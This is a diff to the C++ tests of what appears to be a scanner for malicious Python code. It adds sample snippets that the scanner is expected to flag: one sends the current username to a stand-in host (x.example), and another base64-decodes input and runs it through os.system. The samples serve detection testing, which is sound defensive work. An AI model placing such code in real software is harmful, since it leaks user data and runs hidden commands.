@@ -285,6 +285,24 @@ TEST(Behaviour, PersistenceHiddenLaunchAndPip) {
       "runtime-pip-install", Severity::kHigh);
 }
 
+TEST(Behaviour, HelpersThatSendOrDecode) {
+  // A module's own helper that hands its parameter to the network is a sink.
+  ExpectFinding(
+      "import getpass, urllib.request\n"
+      "def post(url, data):\n"
+      "    return urllib.request.urlopen(urllib.request.Request(url, data=data)).read()\n"
+      "post('https://x.example/', data=getpass.getuser().encode())\n",
+      "exfiltration", Severity::kHigh);
+  // A helper that decodes: its result run as a command is a hidden command.
+  ExpectFinding(
+      "import base64, os\n"
+      "def d(s):\n"
+      "    b = base64.b64decode(s.encode())\n"
+      "    return b.decode()\n"
+      "os.system(d(input()))\n",
+      "exec-dynamic", Severity::kHigh);
+}
+
 TEST(Behaviour, ExecOfComputedCode) {
   ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n",
                 "exec-dynamic");
